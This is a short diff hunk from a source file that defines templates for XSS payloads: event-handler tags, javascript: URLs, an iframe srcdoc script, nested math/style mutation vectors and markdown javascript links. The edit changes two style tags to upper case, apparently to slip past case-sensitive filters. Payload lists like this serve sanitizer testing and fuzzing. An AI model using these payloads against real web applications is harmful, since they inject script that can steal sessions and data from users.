@@ -29,10 +29,10 @@ _ELEMENTS = (
     "<video><source onerror={}></video>",
     "<input autofocus onfocus={}>",
     "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
-    "<math><mtext><style><img src=x onerror={}></style></mtext></math>",
+    "<math><mtext><STYLE><img src=x onerror={}></STYLE></mtext></math>",
     "<body onload={}>",
     "<object data='javascript:{}'></object>",
-    "<style>@import 'javascript:{}';</style>",
+    "<STYLE>@import 'javascript:{}';</STYLE>",
 )
 _MARKED = (
     "[look](javascript:{})",
